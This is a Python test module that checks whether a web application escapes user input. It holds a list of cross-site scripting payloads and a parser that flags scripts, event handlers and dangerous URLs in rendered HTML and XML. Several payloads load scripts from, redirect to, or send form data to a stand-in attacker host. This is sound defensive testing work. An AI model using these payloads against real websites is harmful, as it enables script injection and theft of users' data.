"""Texts that would become a script, an event or a foreign address wherever a page forgets to escape."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from xml.etree import ElementTree

MARK = "xss7"
PAYLOADS = [
    f"<script>{MARK}()</script>",
    f"<ScRiPt src=//jahat.id/{MARK}.js></sCrIpT>",
    f"</script><script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg onload={MARK}()>",
    f'" onfocus={MARK}() autofocus="',
    f"' onmouseover='{MARK}()",
    f"<svg/onload={MARK}()>",
    f"<svg><animate onbegin={MARK}() attributeName=x>",
    f'<a href="javascript:{MARK}()">klik</a>',
    f"[klik](javascript:{MARK}())",
    f"javascript:{MARK}()",
    f"java\tscript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"<object data=javascript:{MARK}()>",
    f"<base href=//jahat.id/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//jahat.id/{MARK}'>",
    f"<form action=//jahat.id/{MARK}><button>",
    f"<math><mtext><table><mglyph><style><img src onerror={MARK}()>",
    f"<!--><img src=x onerror={MARK}()>-->",
    f"]]><script>{MARK}()</script>",
    f"<![CDATA[<script>{MARK}()</script>]]>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&#60;img src=x onerror={MARK}()&#62;",
    f"{{{{ {MARK} }}}}{{% load {MARK} %}}",
    f"\u2028</script><b onclick={MARK}()>\u202e",
]
ADDRESSES = {"href", "src", "action", "formaction", "data", "srcdoc", "poster", "xlink:href", "background"}
EVIL_SCHEMES = ("javascript:", "vbscript:", "data:text", "//jahat.id")
NEVER = {"iframe", "object", "embed", "base", "applet", "frame", "math"}


class _Watcher(HTMLParser):
    """Collects what a browser would run, load or send somewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.json_ld: list[str] = []
        self._in_json = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in NEVER or MARK in tag:
            self.found.append(f"<{tag}>")
        if tag == "script":
            self._in_json = values.get("type") == "application/ld+json"
            if self._in_json:
                self.json_ld.append("")
            elif not values.get("src", "").startswith("/static/"):
                self.found.append(f"<script {values}>")
        if tag == "meta" and values.get("http-equiv"):
            self.found.append(f"<meta {values}>")
        for name, value in values.items():
            plain = "".join(value.split()).lower()
            if name.startswith("on") or MARK in name or name == "style":
                self.found.append(f"{tag} {name}={value}")
            if name in ADDRESSES and plain.startswith(EVIL_SCHEMES):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._in_json:
            self.json_ld[-1] += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_json = False


def dangers_of_html(text: str) -> list[str]:
    """Elements and attributes of a page that are not ours; JSON-LD that is none counts too."""
    watcher = _Watcher()
    watcher.feed(text)
    watcher.close()
    for block in watcher.json_ld:
        try:
            json.loads(block)
        except ValueError:
            watcher.found.append(f"JSON-LD {block[:80]}")
    return watcher.found


def dangers_of_xml(text: str) -> list[str]:
    """Elements of a feed or sitemap that carry the mark in their name or attributes; text alone may hold it."""
    root = ElementTree.fromstring(text.encode())  # noqa: S314 our own answer, not a stranger's file
    return [
        f"{element.tag} {element.attrib}"
        for element in root.iter()
        if MARK in element.tag
        or element.tag.endswith("}script")
        or element.tag == "script"
        or any(MARK in name for name in element.attrib)
    ]
